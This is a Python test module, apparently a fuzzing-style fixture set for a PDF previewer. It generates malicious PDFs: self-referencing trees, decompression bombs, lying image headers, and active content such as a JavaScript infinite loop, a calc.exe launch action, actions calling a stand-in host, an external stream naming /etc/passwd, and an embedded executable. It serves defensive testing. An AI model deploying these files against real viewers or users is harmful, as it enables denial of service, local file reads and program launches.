"""PDFs made to hurt whoever opens them: loops, depths, bombs, lies about sizes, scripts, foreign streams."""

from __future__ import annotations

import zlib
from collections.abc import Iterator
from random import Random

from tests.documents.preview.samples import locked_pdf, one_page, pdf, raw_pdf, stream, zeros

Made = tuple[str, bytes]


_FLATE = b"/Filter /FlateDecode"


def trees() -> Iterator[Made]:
    """Page trees and cross references that lead back to themselves, or nowhere."""
    catalogue = b"<< /Type /Catalog /Pages 2 0 R >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>"
    loops = {
        "kids-self": {2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"},
        "kids-each-other": {
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 9 >>",
            3: b"<< /Type /Pages /Kids [2 0 R] /Count 9 >>",
        },
        "kids-twice": {2: b"<< /Type /Pages /Kids [3 0 R 2 0 R 3 0 R] /Count 1000 >>", 3: page},
        "count-huge": {2: b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>", 3: page},
        "count-million": {2: b"<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>", 3: page},
        "count-negative": {2: b"<< /Type /Pages /Kids [3 0 R] /Count -5 >>", 3: page},
        "no-kids": {2: b"<< /Type /Pages /Count 3 >>"},
        "kids-of-null": {2: b"<< /Type /Pages /Kids [9 0 R 8 0 R null] /Count 3 >>"},
        "pages-is-itself": {2: b"2 0 R"},
        "parent-loop": {
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 3 0 R >>",
            3: b"<< /Type /Page /Parent 2 0 R >>",
        },
    }
    for name, objects in loops.items():
        yield f"tree-{name}.pdf", raw_pdf({1: catalogue} | objects)
    depth = {n: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (n + 1, n - 1) for n in range(2, 5000)}
    yield "tree-deep.pdf", raw_pdf({1: catalogue} | depth | {5000: page})
    sound = pdf()
    start = sound.rindex(b"startxref")
    yield "xref-itself.pdf", sound[:start] + b"trailer << /Prev %d >>\nstartxref\n%d\n%%%%EOF" % (start, start)
    yield "xref-nowhere.pdf", sound[:start] + b"startxref\n99999999999\n%%EOF"
    yield "xref-none.pdf", sound[:start]
    yield "prev-loop.pdf", raw_pdf({1: catalogue, 2: loops["kids-twice"][2], 3: page}, trailer=b"/Prev 15")
    yield "root-missing.pdf", raw_pdf({1: page}, root=7)
    yield "pages-20000.pdf", _many_pages(20_000)
    yield "pages-501.pdf", _many_pages(501)


def _many_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % n for n in range(3, count + 3))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>"
    tree = b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count
    return raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: tree} | dict.fromkeys(range(3, count + 3), page))


def boxes() -> Iterator[Made]:
    """Pages of impossible sizes."""
    for name, box in {
        "huge": b"[0 0 1e9 1e9]",
        "beyond": b"[0 0 1e38 1e38]",
        "thin": b"[0 0 1000000 0.01]",
        "tiny": b"[0 0 0.0001 0.0001]",
        "empty": b"[0 0 0 0]",
        "negative": b"[100 100 -100 -100]",
        "words": b"[/A /B (c) null]",
        "short": b"[0 0]",
        "integers": b"[-2147483648 -2147483648 2147483647 2147483647]",
    }.items():
        yield f"box-{name}.pdf", one_page(b"0 0 50 50 re f", page=b"/MediaBox " + box)
    yield "user-unit.pdf", one_page(b"0 0 50 50 re f", page=b"/MediaBox [0 0 200 200] /UserUnit 1e30")
    yield "rotate-odd.pdf", one_page(b"0 0 50 50 re f", page=b"/MediaBox [0 0 200 200] /Rotate 2147483641")


def depths() -> Iterator[Made]:
    """Objects in objects, drawings in drawings."""
    for name, opening, closing in (("array", b"[", b"]"), ("dictionary", b"<< /A ", b">>")):
        nested = opening * 100_000 + closing * 100_000
        yield f"nested-{name}.pdf", one_page(b"", more={10: nested}, page=b"/MediaBox [0 0 9 9] /X 10 0 R")
        yield f"nested-{name}-drawn.pdf", one_page(nested)
    yield "saved-states.pdf", one_page(b"q " * 500_000 + b"0 0 9 9 re f")
    yield "marked-content.pdf", one_page(b"/P BMC " * 200_000)
    itself = stream(
        b"/X Do /X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources << /XObject << /X 10 0 R >> >>"
    )
    yield "form-itself.pdf", one_page(b"/X Do", b"/XObject << /X 10 0 R >>", more={10: itself})
    doubling = {
        n: stream(
            b"/X Do " * 8,
            b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >>" % (n + 1),
        )
        for n in range(10, 22)
    }
    last = {22: stream(b"0 0 9 9 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]")}
    yield "form-eight-times-eight.pdf", one_page(b"/X Do", b"/XObject << /X 10 0 R >>", more=doubling | last)
    pattern = stream(
        b"/Pattern cs /P scn 0 0 200 200 re f",
        b"/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001 /Resources << /Pattern << /P 10 0 R >> >>",
    )
    yield (
        "pattern-itself.pdf",
        one_page(b"/Pattern cs /P scn 0 0 200 200 re f", b"/Pattern << /P 10 0 R >>", more={10: pattern}),
    )
    mask = b"<< /SMask << /S /Luminosity /G 11 0 R >> >>"
    group = stream(
        b"/G gs 0 0 9 9 re f",
        b"/Type /XObject /Subtype /Form /BBox [0 0 200 200] /Group << /S /Transparency >> /Resources << /ExtGState << /G 10 0 R >> >>",
    )
    yield (
        "mask-itself.pdf",
        one_page(b"/G gs 0 0 99 99 re f", b"/ExtGState << /G 10 0 R >>", more={10: mask, 11: group}),
    )
    glyph = stream(b"9 0 0 0 9 9 d1 BT /F 9 Tf (a) Tj ET")
    font = b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 11 0 R >> /Resources << /Font << /F 10 0 R >> >> >>"
    yield "font-itself.pdf", one_page(b"BT /F 9 Tf (aaaa) Tj ET", b"/Font << /F 10 0 R >>", more={10: font, 11: glyph})
    outline = b"<< /Title (a) /Next 10 0 R /First 10 0 R /Parent 10 0 R >>"
    yield "outline-loop.pdf", one_page(catalogue=b"/Outlines 10 0 R", more={10: outline})
    names = b"<< /Kids [10 0 R] /Limits [(a) (b)] >>"
    yield (
        "names-loop.pdf",
        one_page(catalogue=b"/Names << /JavaScript 10 0 R /EmbeddedFiles 10 0 R >>", more={10: names}),
    )
    field = b"<< /T (a) /FT /Tx /Kids [10 0 R] /Parent 10 0 R >>"
    yield "fields-loop.pdf", one_page(catalogue=b"/AcroForm << /Fields [10 0 R] >>", more={10: field})
    yield "length-is-itself.pdf", one_page(more={4: b"<< /Length 4 0 R >>\nstream\nq\nendstream"})
    calculator = stream(b"{" * 50_000 + b"}" * 50_000, b"/FunctionType 4 /Domain [0 1] /Range [0 1]")
    shading = b"<< /ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 9 9] /Function 10 0 R >>"
    yield "function-deep.pdf", one_page(b"/S sh", b"/Shading << /S 11 0 R >>", more={10: calculator, 11: shading})
    stitched = b"<< /FunctionType 3 /Domain [0 1] /Functions [10 0 R 10 0 R] /Bounds [0.5] /Encode [0 1 0 1] >>"
    yield "function-itself.pdf", one_page(b"/S sh", b"/Shading << /S 11 0 R >>", more={10: stitched, 11: shading})


def bombs() -> Iterator[Made]:
    """Little that becomes much."""
    yield "flate-content.pdf", one_page(zeros(600 * 2**20), content_members=_FLATE)
    twice = zlib.compress(zeros(300 * 2**20), 9)
    yield "flate-flate.pdf", one_page(twice, content_members=b"/Filter [/FlateDecode /FlateDecode]")
    yield "filters-100.pdf", one_page(b"q", content_members=b"/Filter [" + b"/ASCIIHexDecode " * 100_000 + b"]")
    yield (
        "paths.pdf",
        one_page(zlib.compress(b"0 0 m 200 200 l 3 7 190 1 5 9 c S\n" * 300_000, 9), content_members=_FLATE),
    )
    yield (
        "glyphs.pdf",
        one_page(
            zlib.compress(b"BT /F 1 Tf " + b"(" + b"EXEMPLE " * 300_000 + b") Tj ET"),
            b"/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>",
            content_members=_FLATE,
        ),
    )
    yield "dashes.pdf", one_page(b"[0.0001 0.0001] 0 d 0.01 w 0 0 m 200 200 l S")
    yield "wide-lines.pdf", one_page(b"1e30 w 0 0 m 1e30 1e30 l S -1e38 1e38 1e38 1e38 re B*")
    yield "clips.pdf", one_page(b"0 0 200 200 re W* n " * 100_000)
    groups = b"/Type /XObject /Subtype /Form /BBox [0 0 200 200] /Group << /S /Transparency /I true >> /Resources << /XObject << /X %d 0 R >> /ExtGState << /G << /ca 0.5 >> >> >>"
    more = {n: stream(b"/G gs /X Do", groups % (n + 1)) for n in range(10, 210)}
    yield (
        "groups-200.pdf",
        one_page(
            b"/X Do", b"/XObject << /X 10 0 R >>", more=more | {210: stream(b"", b"/Subtype /Form /BBox [0 0 9 9]")}
        ),
    )
    yield (
        "predictor.pdf",
        one_page(
            zlib.compress(b"x" * 100),
            content_members=_FLATE
            + b" /DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 32 /BitsPerComponent 32 >>",
        ),
    )
    mesh = stream(
        zeros(64 * 2**20),
        b"/ShadingType 4 /ColorSpace /DeviceRGB /BitsPerCoordinate 8 /BitsPerComponent 8 /BitsPerFlag 8 /Decode [0 200 0 200 0 1 0 1 0 1] "
        + _FLATE,
    )
    yield "mesh.pdf", one_page(b"/S sh", b"/Shading << /S 10 0 R >>", more={10: mesh})
    yield (
        "object-stream-bomb.pdf",
        one_page(more={10: stream(zeros(300 * 2**20), b"/Type /ObjStm /N 1000000 /First 10 " + _FLATE)}),
    )
    yield "strings.pdf", one_page(b"(" * 1_000_000)
    yield "hex.pdf", one_page(b"<" + b"41" * 2_000_000)


def _picture(data: bytes, members: bytes, width: int = 64, height: int = 64) -> bytes:
    members = b"/Type /XObject /Subtype /Image /Width %d /Height %d " % (width, height) + members
    return one_page(b"200 0 0 200 0 0 cm /I Do", b"/XObject << /I 10 0 R >>", more={10: stream(data, members)})


def pictures(dice: Random) -> Iterator[Made]:
    """Images in a page that lie about themselves, and codecs that are seldom used."""
    grey = b"/ColorSpace /DeviceGray /BitsPerComponent 8 "
    yield "image-65535.pdf", _picture(zeros(16 * 2**20), grey + _FLATE, 65535, 65535)
    yield "image-huge.pdf", _picture(b"x", grey, 2147483647, 2147483647)
    yield "image-negative.pdf", _picture(b"x", grey, -5, 5)
    yield (
        "image-bits.pdf",
        _picture(zeros(4 * 2**20), b"/ColorSpace /DeviceCMYK /BitsPerComponent 16 " + _FLATE, 20000, 20000),
    )
    yield "image-mask-itself.pdf", _picture(b"x" * 4096, grey + b"/SMask 10 0 R")
    yield (
        "indexed.pdf",
        _picture(b"x" * 4096, b"/BitsPerComponent 8 /ColorSpace [/Indexed /DeviceRGB 2147483647 (abc)]"),
    )
    yield "space-itself.pdf", _picture(b"x" * 4096, b"/BitsPerComponent 8 /ColorSpace 11 0 R")
    jpx = b"\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14ftypjp2 \0\0\0\0jp2 \0\0\0\x2djp2h\0\0\0\x16ihdr"
    size = b"\xff\xff\xff\xff"
    yield "jpx-huge.pdf", _picture(jpx + size * 2 + b"\0\x03\x07\x07\0\0" + dice.randbytes(200), b"/Filter /JPXDecode")
    codestream = (
        b"\xff\x4f\xff\x51\0\x2f\0\0"
        + size * 2
        + bytes(8)
        + b"\0\0\0\x01" * 2
        + bytes(8)
        + b"\0\x03"
        + b"\x07\x01\x01" * 3
    )
    yield "jpx-tiles.pdf", _picture(codestream + dice.randbytes(400), b"/Filter /JPXDecode")
    segment = b"\0\0\0\0\x30\0\x01\0\0\0\x13" + size * 2 + bytes(8) + b"\0\x80\0\0\0\x01\x26\0\x01"
    for n in range(4):
        yield f"jbig2-{n}.pdf", _picture(segment + b"\0\0\0\x40" + dice.randbytes(300), grey + b"/Filter /JBIG2Decode")
    yield (
        "ccitt.pdf",
        _picture(
            dice.randbytes(500),
            b"/BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 2147483647 /Rows 2147483647 >>",
        ),
    )
    yield (
        "dct.pdf",
        _picture(
            b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03" + dice.randbytes(300),
            b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode",
            65535,
            65535,
        ),
    )
    for n, kind in enumerate((b"FontFile", b"FontFile2", b"FontFile3")):
        font = b"<< /Type /Font /Subtype /TrueType /BaseFont /EXEMPLE /FontDescriptor 11 0 R >>"
        descriptor = b"<< /Type /FontDescriptor /FontName /EXEMPLE /Flags 4 /" + kind + b" 12 0 R >>"
        junk = (b"%!PS-AdobeFont-1.0", b"\0\x01\0\0\0\x10", b"\x01\0\x04\x04")[n] + dice.randbytes(3000)
        more = {10: font, 11: descriptor, 12: stream(junk, b"/Subtype /Type1C" if n == 2 else b"")}
        yield (
            f"font-junk-{n}.pdf",
            one_page(b"BT /F 20 Tf 20 20 Td (EXEMPLE) Tj ET", b"/Font << /F 10 0 R >>", more=more),
        )
    cmap = stream(
        b"/CIDInit /ProcSet findresource begin begincmap 65535 begincodespacerange <00> <FFFFFFFF>\n" * 5000
        + b"1 beginbfrange <0000> <FFFF> <0000> endbfrange",
        b"",
    )
    font = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /E /Encoding 11 0 R /ToUnicode 11 0 R /DescendantFonts [10 0 R] >>"
    )
    yield "cmap.pdf", one_page(b"BT /F 20 Tf (EXEMPLE) Tj ET", b"/Font << /F 10 0 R >>", more={10: font, 11: cmap})


def active() -> Iterator[Made]:
    """Scripts, launches, addresses, files inside, passwords."""
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\); while\\(true\\){}) >>"
    yield "script-open.pdf", one_page(catalogue=b"/OpenAction " + script)
    yield "script-names.pdf", one_page(catalogue=b"/Names << /JavaScript << /Names [(a) " + script + b"] >> >>")
    yield "script-page.pdf", one_page(page=b"/MediaBox [0 0 9 9] /AA << /O " + script + b" >>")
    for name, action in {
        "launch": b"<< /S /Launch /F (calc.exe) >>",
        "uri": b"<< /S /URI /URI (https://front.example/exemple) >>",
        "remote": b"<< /S /GoToR /F (//front.example/exemple.pdf) /D [0 /Fit] >>",
        "submit": b"<< /S /SubmitForm /F (https://front.example/exemple) >>",
    }.items():
        yield f"action-{name}.pdf", one_page(catalogue=b"/OpenAction " + action)
    external = b"<< /Length 0 /F (/etc/passwd) /FFilter /FlateDecode >>\nstream\n\nendstream"
    yield "external-stream.pdf", one_page(more={4: external})
    embedded = (
        b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 10 0 R >> >>] >> >>"
    )
    yield "embedded.pdf", one_page(catalogue=embedded, more={10: stream(b"MZ" + bytes(100), b"/Type /EmbeddedFile")})
    yield "xfa.pdf", one_page(catalogue=b"/AcroForm << /Fields [] /XFA 10 0 R >>", more={10: stream(b"<xdp:xdp/>")})
    for revision in (2, 3, 4, 6):
        yield f"locked-{revision}.pdf", locked_pdf("EXEMPLE", revision=revision)
    yield "locked-open.pdf", locked_pdf("")
    unknown = raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [] /Count 0 >>",
            3: b"<< /Filter /Exemple /V 99 >>",
        },
        trailer=b"/Encrypt 3 0 R /ID [(a) (b)]",
    )
    yield "locked-unknown.pdf", unknown
